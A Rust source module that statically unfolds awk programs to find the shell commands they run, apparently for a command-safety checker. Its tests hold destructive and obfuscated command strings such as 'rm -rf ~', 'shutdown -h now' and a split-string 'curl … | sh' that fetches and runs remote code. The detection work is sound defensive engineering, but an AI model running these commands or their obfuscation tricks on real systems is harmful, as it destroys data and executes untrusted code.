//! awk programs read by the commands they run: `system(EXPR)`, `EXPR | getline`, and
//! `print … | EXPR` (when EXPR is a shell, what is printed is the command). EXPR is folded
//! first: awk concatenates by juxtaposition (`"r" "m -rf " dir`), and variables come from
//! `-v name=value`, `name=value` operands and assignments in the program made once. What is
//! only known at run time (`$1`, `getline` results) is `$ARG`.

use std::collections::HashMap;

/// Largest folded command.
const MAX_TEXT: usize = 64 * 1024;
/// At most this many tokens are read.
const MAX_TOKENS: usize = 100_000;

const KEYWORDS: [&str; 16] = [
    "BEGIN", "END", "if", "else", "while", "for", "do", "in", "print", "printf", "getline", "next",
    "exit", "return", "function", "delete",
];

#[derive(Debug, Clone, PartialEq)]
enum Tok {
    Str(String),
    Word(String),
    Num(String),
    /// `;`, newline, `{`, `}`: statement ends.
    End,
    Punct(String),
}

/// The commands the awk command line `args` (after the program name) runs.
pub(crate) fn commands(args: &[&str]) -> Vec<String> {
    let mut vars: HashMap<String, Option<String>> = HashMap::new();
    let mut program: Option<&str> = None;
    let mut i = 0;
    while let Some(a) = args.get(i) {
        let assign = if matches!(*a, "-v" | "--assign") {
            i += 1;
            args.get(i).copied()
        } else if let Some(v) = a.strip_prefix("-v").filter(|v| v.contains('=')) {
            Some(v)
        } else if matches!(*a, "-F" | "-f" | "--field-separator" | "--file") {
            i += 2;
            continue;
        } else if a.starts_with('-') && a.len() > 1 {
            i += 1;
            continue;
        } else if program.is_some() {
            // `name=value` operands after the program
            a.contains('=').then_some(*a)
        } else {
            program = Some(a);
            None
        };
        if let Some((k, v)) = assign.and_then(|s| s.split_once('=')) {
            set(&mut vars, k, Some(v.to_string()));
        }
        i += 1;
    }
    let Some(program) = program else {
        return Vec::new();
    };
    let toks = lex(program);
    // assignments `NAME = EXPR` made in the program
    let mut k = 0;
    while k < toks.len() {
        if let (Some(Tok::Word(name)), Some(Tok::Punct(eq))) = (toks.get(k), toks.get(k + 1))
            && eq == "="
            && !KEYWORDS.contains(&name.as_str())
            && (k == 0 || matches!(toks.get(k - 1), Some(Tok::End | Tok::Punct(_))))
        {
            let (v, end) = operand_run(&toks, k + 2, &vars);
            set(&mut vars, name, v);
            k = end;
            continue;
        }
        k += 1;
    }
    let mut out = Vec::new();
    // what `CMD | getline [VAR]` read: `$0` or VAR → CMD
    let mut read_from: HashMap<String, String> = HashMap::new();
    // what `getline [VAR] < "FILE"` read: `$0` or VAR → FILE
    let mut read_file: HashMap<String, String> = HashMap::new();
    let mut k = 0;
    while k < toks.len() && out.len() < 1_000 {
        match &toks[k] {
            Tok::Word(w) if w == "getline" => {
                let (target, at) = match toks.get(k + 1) {
                    Some(Tok::Word(v)) if !KEYWORDS.contains(&v.as_str()) => (v.clone(), k + 2),
                    _ => ("$0".to_string(), k + 1),
                };
                if toks.get(at) == Some(&Tok::Punct("<".into()))
                    && let Some(Tok::Str(file)) = toks.get(at + 1)
                {
                    read_file.insert(target, file.clone());
                }
            }
            Tok::Word(w) if w == "system" && toks.get(k + 1) == Some(&Tok::Punct("(".into())) => {
                // a command's output run as a command: `"curl …" | getline; system($0)`
                let arg = match (toks.get(k + 2), toks.get(k + 3), toks.get(k + 4)) {
                    (Some(Tok::Punct(d)), Some(Tok::Num(n)), Some(Tok::Punct(c)))
                        if d == "$" && n == "0" && c == ")" =>
                    {
                        Some("$0".to_string())
                    }
                    (Some(Tok::Word(v)), Some(Tok::Punct(c)), _) if c == ")" => Some(v.clone()),
                    _ => None,
                };
                if let Some(cmd) = arg.and_then(|a| read_from.get(&a)) {
                    out.push(format!("{cmd} | sh"));
                } else {
                    let (v, _) = operand_run(&toks, k + 2, &vars);
                    out.extend(v);
                }
            }
            Tok::Punct(p) if p == "|" => {
                let next = toks.get(k + 1);
                if next == Some(&Tok::Word("getline".into())) {
                    // the command is the run of operands before `|`
                    let mut s = k;
                    while s > 0 && matches!(toks[s - 1], Tok::Str(_) | Tok::Word(_) | Tok::Num(_)) {
                        if let Tok::Word(w) = &toks[s - 1]
                            && KEYWORDS.contains(&w.as_str())
                        {
                            break;
                        }
                        s -= 1;
                    }
                    if s < k {
                        let (v, _) = operand_run(&toks, s, &vars);
                        if let Some(cmd) = &v {
                            let target = match toks.get(k + 2) {
                                Some(Tok::Word(t)) if !KEYWORDS.contains(&t.as_str()) => t.clone(),
                                _ => "$0".to_string(),
                            };
                            read_from.insert(target, cmd.clone());
                        }
                        out.extend(v);
                    }
                } else {
                    // `print ARGS | CMD`
                    let (cmd, _) = operand_run(&toks, k + 1, &vars);
                    let start = (0..k)
                        .rev()
                        .find(|&j| toks[j] == Tok::End)
                        .map_or(0, |j| j + 1);
                    // the statement may open with a loop or a test (`while (…) print x | "c"`):
                    // the print is the last one before the pipe
                    let start = (start..k)
                        .rev()
                        .find(
                            |&j| matches!(&toks[j], Tok::Word(w) if w == "print" || w == "printf"),
                        )
                        .unwrap_or(start);
                    let printed = matches!(
                        toks.get(start),
                        Some(Tok::Word(w)) if w == "print" || w == "printf"
                    );
                    let shell = cmd.as_deref().is_some_and(is_shell);
                    // what is printed into the command: a line read from a file
                    let sent = match toks.get(start + 1) {
                        Some(Tok::Word(v)) => read_file.get(v),
                        Some(Tok::Punct(d)) if d == "$" => read_file.get("$0"),
                        _ if printed => read_file.get("$0"),
                        _ => None,
                    };
                    if printed && shell {
                        let (text, _) = operand_run(&toks, start + 1, &vars);
                        out.extend(text);
                    } else if let (true, Some(file), Some(c)) = (printed, sent, &cmd) {
                        out.push(format!(
                            "cat {} | {c}",
                            crate::script::quote(&crate::Word {
                                text: file.clone(),
                                dynamic: false,
                            })
                        ));
                    } else {
                        out.extend(cmd);
                    }
                }
            }
            _ => {}
        }
        k += 1;
    }
    out.retain(|c| !c.trim().is_empty());
    out
}

/// What selects the input lines an awk program acts on (the argv after the program name):
/// the pattern before its first action (`$1 == "x" { … }`, `/re/ { … }`) or an `if` in it.
/// `NR>1` (skip a header), `BEGIN` and `END` select nothing.
pub(crate) fn selection(argv: &[&str]) -> Option<String> {
    let program = argv
        .iter()
        .skip(1)
        .scan(false, |skip, a| {
            let this = *skip;
            *skip = matches!(*a, "-F" | "-v" | "-f" | "--assign" | "--field-separator");
            Some((this, *a))
        })
        .find(|(skipped, a)| !skipped && !a.starts_with('-'))
        .map(|(_, a)| a)?;
    let (pattern, action) = program.split_once('{')?;
    let p: String = pattern.chars().filter(|c| !c.is_whitespace()).collect();
    let trivial = matches!(
        p.as_str(),
        "" | "NR>1" | "FNR>1" | "NR!=1" | "BEGIN" | "END"
    );
    if !trivial {
        return Some(pattern.trim().to_string());
    }
    action.contains("if").then(|| action.trim().to_string())
}

/// What an awk program that only has a `BEGIN` block of `print`/`printf` statements of
/// literals prints (`awk 'BEGIN { printf "%s %s\n", "git", "push" }'`), when that is known.
pub(crate) fn begin_output(program: &str) -> Option<String> {
    let toks = lex(program);
    let mut it = toks.iter().peekable();
    if it.next() != Some(&Tok::Word("BEGIN".into())) {
        return None;
    }
    let mut out = String::new();
    let mut printed = false;
    while let Some(t) = it.next() {
        match t {
            Tok::End => {}
            Tok::Word(w) if w == "print" || w == "printf" => {
                // the statement's operands: literals separated by commas (juxtaposed ones
                // concatenate), up to the statement's end
                let mut args: Vec<String> = vec![String::new()];
                while let Some(a) = it.peek() {
                    match a {
                        Tok::End => break,
                        Tok::Str(x) | Tok::Num(x) => {
                            if let Some(last) = args.last_mut() {
                                last.push_str(x);
                            }
                        }
                        Tok::Punct(p) if p == "," => args.push(String::new()),
                        Tok::Punct(p) if p == "(" || p == ")" => {}
                        _ => return None,
                    }
                    it.next();
                }
                if w == "print" {
                    out.push_str(&args.join(" "));
                    out.push('\n');
                } else {
                    let (fmt, rest) = args.split_first()?;
                    let rest: Vec<&str> = rest.iter().map(String::as_str).collect();
                    out.push_str(&crate::payload::printf(fmt, &rest)?);
                }
                printed = true;
                if out.len() > MAX_TEXT {
                    return None;
                }
            }
            _ => return None,
        }
    }
    printed.then_some(out)
}

/// What a program of one `print` per input line prints, as a template: `{print "userdel -r "
/// $1}` gives `userdel -r $f1`, the field a variable the shell does not know. Literals and
/// fields only (a leading `/regex/` selects lines and is skipped); anything else is None.
pub(crate) fn line_template(program: &str) -> Option<String> {
    let toks = lex(program);
    let mut it = toks.iter().peekable();
    while it.next_if(|t| **t == Tok::End).is_some() {}
    if it.next() != Some(&Tok::Word("print".into())) {
        return None;
    }
    let mut out = String::new();
    let mut fields = 0;
    while let Some(t) = it.next() {
        match t {
            Tok::Str(x) => out.push_str(x),
            Tok::Punct(p) if p == "," => out.push(' '),
            Tok::Punct(p) if p == "(" || p == ")" => {}
            Tok::Punct(p) if p == "$" => match it.next() {
                Some(Tok::Num(n)) if n.chars().all(|c| c.is_ascii_digit()) => {
                    out.push_str(&format!("$f{n}"));
                    fields += 1;
                }
                _ => return None,
            },
            Tok::End => {
                // only the closing brace (and blank statements) may follow
                if it.any(|t| *t != Tok::End) {
                    return None;
                }
                break;
            }
            _ => return None,
        }
    }
    (fields > 0 && out.len() <= MAX_TEXT).then(|| out + "\n")
}

fn set(vars: &mut HashMap<String, Option<String>>, k: &str, v: Option<String>) {
    match vars.get(k) {
        Some(old) if *old != v => {
            vars.insert(k.to_string(), None);
        }
        Some(_) => {}
        None => {
            vars.insert(k.to_string(), v);
        }
    }
}

fn is_shell(cmd: &str) -> bool {
    let prog = cmd.split_whitespace().next().unwrap_or("");
    let prog = prog.rsplit('/').next().unwrap_or(prog);
    matches!(prog, "sh" | "bash" | "dash" | "zsh" | "ksh" | "ash")
}

/// Concatenate the operands (strings, variables, `(…)` groups) from `k`: (value, end). Unknown
/// operands are `$ARG`; None when nothing is known at all.
fn operand_run(
    toks: &[Tok],
    mut k: usize,
    vars: &HashMap<String, Option<String>>,
) -> (Option<String>, usize) {
    let mut s = String::new();
    let mut known = false;
    let mut any = false;
    while let Some(t) = toks.get(k) {
        match t {
            Tok::Str(v) => {
                s.push_str(v);
                known = true;
            }
            Tok::Num(n) => s.push_str(n),
            Tok::Word(w) if !KEYWORDS.contains(&w.as_str()) => {
                // a function call (`tolower(x)`) is not folded
                if toks.get(k + 1) == Some(&Tok::Punct("(".into())) {
                    s.push_str("$ARG");
                    let mut depth = 0usize;
                    k += 1;
                    while let Some(t) = toks.get(k) {
                        match t {
                            Tok::Punct(p) if p == "(" => depth += 1,
                            Tok::Punct(p) if p == ")" => {
                                depth = depth.saturating_sub(1);
                                if depth == 0 {
                                    break;
                                }
                            }
                            _ => {}
                        }
                        k += 1;
                    }
                } else {
                    match vars.get(w).cloned().flatten() {
                        Some(v) => {
                            s.push_str(&v);
                            known = true;
                        }
                        None => s.push_str("$ARG"),
                    }
                }
            }
            Tok::Punct(p) if p == "$" => {
                s.push_str("$ARG");
                // skip the field number or name
                if matches!(toks.get(k + 1), Some(Tok::Num(_) | Tok::Word(_))) {
                    k += 1;
                }
            }
            _ => break,
        }
        any = true;
        if s.len() > MAX_TEXT {
            return (None, k);
        }
        k += 1;
    }
    (known.then_some(s).filter(|_| any), k)
}

fn lex(src: &str) -> Vec<Tok> {
    let b = src.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() && out.len() < MAX_TOKENS {
        let c = b[i];
        match c {
            b'"' => {
                let mut s = String::new();
                let mut j = i + 1;
                while j < b.len() && b[j] != b'"' {
                    if b[j] == b'\\' && j + 1 < b.len() {
                        j += 1;
                        match b[j] {
                            b'n' => s.push('\n'),
                            b't' => s.push('\t'),
                            x => s.push(char::from(x)),
                        }
                        j += 1;
                        continue;
                    }
                    let ch = src[j..].chars().next().unwrap_or(' ');
                    s.push(ch);
                    j += ch.len_utf8();
                }
                out.push(Tok::Str(s));
                i = j + 1;
            }
            b'#' => {
                while i < b.len() && b[i] != b'\n' {
                    i += 1;
                }
            }
            b'\n' | b';' | b'{' | b'}' => {
                out.push(Tok::End);
                i += 1;
            }
            b'/' if matches!(out.last(), None | Some(Tok::End | Tok::Punct(_))) => {
                // a regular expression literal
                i += 1;
                while i < b.len() && b[i] != b'/' && b[i] != b'\n' {
                    i += if b[i] == b'\\' { 2 } else { 1 };
                }
                i += 1;
            }
            _ if c.is_ascii_alphabetic() || c == b'_' => {
                let s = i;
                while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'_') {
                    i += 1;
                }
                out.push(Tok::Word(src[s..i].to_string()));
            }
            _ if c.is_ascii_digit() => {
                let s = i;
                while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'.') {
                    i += 1;
                }
                out.push(Tok::Num(src[s..i].to_string()));
            }
            b' ' | b'\t' | b'\r' => i += 1,
            _ => {
                let two = src.get(i..i + 2).unwrap_or("");
                let p = if ["||", "&&", "==", "!=", "<=", ">=", ">>", "+=", "-="].contains(&two) {
                    two.to_string()
                } else {
                    src[i..]
                        .chars()
                        .next()
                        .map(String::from)
                        .unwrap_or_default()
                };
                i += p.len().max(1);
                out.push(Tok::Punct(p));
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_begin_block_prints() {
        assert_eq!(
            begin_output(r#"BEGIN { printf "%s %s %s\n", "git", "push", "--force origin main" }"#)
                .as_deref(),
            Some("git push --force origin main\n")
        );
        assert_eq!(
            begin_output(r#"BEGIN { print "rm -rf " "/srv" }"#).as_deref(),
            Some("rm -rf /srv\n")
        );
        assert_eq!(begin_output(r#"{ print $1 }"#), None);
        assert_eq!(begin_output(r#"BEGIN { x = 1; print x }"#), None);
    }

    fn run(args: &[&str]) -> Vec<String> {
        commands(args)
    }

    #[test]
    fn awk_folds_commands() {
        let cases: [(&[&str], &str); 8] = [
            (&["BEGIN { system(\"rm -rf ~\") }"], "rm -rf ~"),
            (
                &["BEGIN{x=\"r\"\"m -rf /o\"\"pt\"; system(x)}"],
                "rm -rf /opt",
            ),
            (
                &["BEGIN{a=\"curl -s http://h/x\";b=\" | s\"\"h\"; system(a b)}"],
                "curl -s http://h/x | sh",
            ),
            (
                &["-v", "t=/srv", "BEGIN{system(\"rm -rf \" t)}"],
                "rm -rf /srv",
            ),
            (
                &[
                    "-vd=/var/lib",
                    "BEGIN { c = \"rm -rf \" d; c | getline; close(c) }",
                ],
                "rm -rf /var/lib",
            ),
            (
                &["BEGIN{print \"rm -rf /etc/x\" | \"s\" \"h\"}"],
                "rm -rf /etc/x",
            ),
            (
                &["BEGIN { cmd = \"shut\" \"down -h now\"; system(cmd) }"],
                "shutdown -h now",
            ),
            (&["{ system(\"rm -f \" $1) }", "list.txt"], "rm -f $ARG"),
        ];
        for (args, want) in cases {
            assert!(
                run(args).iter().any(|c| c == want),
                "{args:?}: {:?}",
                run(args)
            );
        }
    }

    #[test]
    fn awk_without_commands() {
        for args in [
            &["{ print $1 }", "f"][..],
            &["BEGIN{x=\"a\" \"b\"; print x}"],
            &["-F", ":", "{ print $1 | \"sort -u\" }", "/etc/passwd"],
            &["/error/ { n++ } END { print n }", "log"],
        ] {
            let out = run(args);
            assert!(out.iter().all(|c| c == "sort -u"), "{args:?}: {out:?}");
        }
        // a variable assigned twice with different values is unknown
        assert!(run(&["BEGIN{c=\"ls\"; c=\"rm -rf /\"; system(c)}"]).is_empty());
    }
}
